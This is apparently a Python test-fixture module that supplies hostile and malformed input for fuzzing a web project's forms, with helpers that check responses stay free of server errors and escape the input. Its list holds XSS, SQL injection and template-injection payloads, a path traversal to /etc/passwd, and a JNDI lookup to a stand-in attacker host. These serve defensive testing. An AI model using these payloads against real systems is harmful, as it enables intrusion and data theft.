"""A corpus of hostile and broken input, for feeding every form of the project.

Use it with one parametrized test per form:

    @pytest.mark.parametrize("value", HOSTILE_TEXTS, ids=text_id)
    def test_goal_form_survives_hostile_text(client_for, head_of_planning, value):
        response = client_for(head_of_planning).post(url, {**valid, "title": value})
        assert_no_server_error(response)
        assert_shown_escaped(response, value)
        ...and that nothing was stored half-way (compare the rows before and after)

`hostile_text()` is the same idea for hypothesis. Numbers and dates have their own lists;
`without(data, field)` and `duplicated(data, field, value)` make missing and doubled fields.
"""

from hypothesis import strategies as st

ONE_MEGABYTE = 1024 * 1024

HOSTILE_TEXTS = [
    "<script>alert('xss')</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "'; DROP TABLE directorates_user; --",
    "1' OR '1'='1",
    "1; SELECT pg_sleep(10); --",
    "%' AND 1=0 UNION SELECT username, password FROM directorates_user --",
    "before\x00after",  # PostgreSQL refuses NUL in text
    "\x00",
    "\u202egnp.exe\u202c",  # right-to-left override
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",  # Hebrew and Arabic
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a" * 20,  # combining marks
    "\u200b\u200c\u200d\ufeff",  # zero-width characters
    "Καλημέρα 🏛️👩🏽‍💼",  # Greek and emoji
    "\t\r\n  \n",  # only white space
    "a" * 10_000,
    "α" * ONE_MEGABYTE,  # 1 MB of characters (2 MB of UTF-8)
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "\\x27\\u0027%27%00",
]

INVALID_NUMBERS = [
    "-1",
    "-0",
    "1e309",
    "NaN",
    "Infinity",
    "99999999999999999999999",
    "1,5",
    "",
    "٣",
]
INVALID_DATES = ["2026-02-30", "0000-00-00", "31/12/2026", "9999-99-99", "2026-13-01", "yesterday"]
INVALID_CHOICES = ["", "xx", "<script>", "0", "-1", "el' OR 1=1"]


# Pieces of the corpus that would run as markup if they reached the page unescaped.
LIVE_MARKUP = ["<script>alert", "<img src=x", "<svg/onload", 'onfocus="alert', "onmouseover='alert"]


def text_id(value: str) -> str:
    """A short, readable test id for a corpus entry."""
    shown = value[:12].encode("unicode_escape").decode()
    return f"{shown}...{len(value)}" if len(value) > 12 else shown


def hostile_text() -> st.SearchStrategy[str]:
    """Any text, control characters and NUL included, mixed with pieces of the corpus."""
    return st.one_of(
        st.text(max_size=300),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
        st.sampled_from(HOSTILE_TEXTS[:-2]),
        st.tuples(st.text(max_size=20), st.sampled_from(HOSTILE_TEXTS[:12])).map("".join),
    )


def without(data: dict, field: str) -> dict:
    return {k: v for k, v in data.items() if k != field}


def duplicated(data: dict, field: str, value: str) -> dict:
    return {**data, field: [data.get(field, ""), value]}


SHORTEST_MARKUP = 8  # len("<script>")


def assert_no_server_error(response) -> None:
    assert response.status_code < 500, f"{response.status_code} for hostile input"


def assert_shown_escaped(response, value: str) -> None:
    """The page may show the value back, but only escaped: markup in it must never be live."""
    page = response.content.decode()
    dangerous = any(c in value for c in "<>\"'")
    # A value of a few characters ('<', '"a') is part of any HTML page by chance: only values
    # long enough to be markup of their own are looked for whole.
    if dangerous and len(value) >= SHORTEST_MARKUP:
        assert value not in page, "the input is shown back unescaped"
    for marker in LIVE_MARKUP:
        if marker in value:
            assert marker not in page, f"live markup {marker!r} on the page"
